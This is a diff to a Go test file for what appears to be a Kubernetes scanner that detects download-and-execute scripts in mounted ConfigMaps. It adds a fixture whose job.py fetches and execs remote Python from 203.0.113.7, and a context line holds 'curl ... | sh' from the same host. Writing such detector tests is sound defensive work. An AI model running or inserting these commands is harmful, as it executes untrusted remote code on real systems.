@@ -22,6 +22,12 @@ func TestExecDownloadExecute(t *testing.T) {
 			want:       1, contains: "key entry",
 		},
 		{
+			name:       "Python script from a ConfigMap is read as Python",
+			podSpec:    "containers:\n- name: app\n  image: python:3.12\n  command: [\"python3\", \"/jobs/job.py\"]\n  volumeMounts:\n  - {name: s, mountPath: /jobs}\nvolumes:\n- name: s\n  configMap: {name: jobs}",
+			configMaps: []string{"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: jobs, namespace: ns}\ndata:\n  job.py: |\n    import urllib.request\n    exec(urllib.request.urlopen('http://203.0.113.7/p.py').read())\n"},
+			want:       1, contains: "key job.py",
+		},
+		{
 			name:       "ConfigMap in another namespace is not the one mounted",
 			podSpec:    "containers:\n- name: app\n  image: busybox\n  command: [\"sh\", \"/scripts/run.sh\"]\n  volumeMounts:\n  - {name: s, mountPath: /scripts}\nvolumes:\n- name: s\n  configMap: {name: tools}",
 			configMaps: []string{"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: tools, namespace: other}\ndata:\n  run.sh: \"curl -s http://203.0.113.7/x | sh\"\n"},
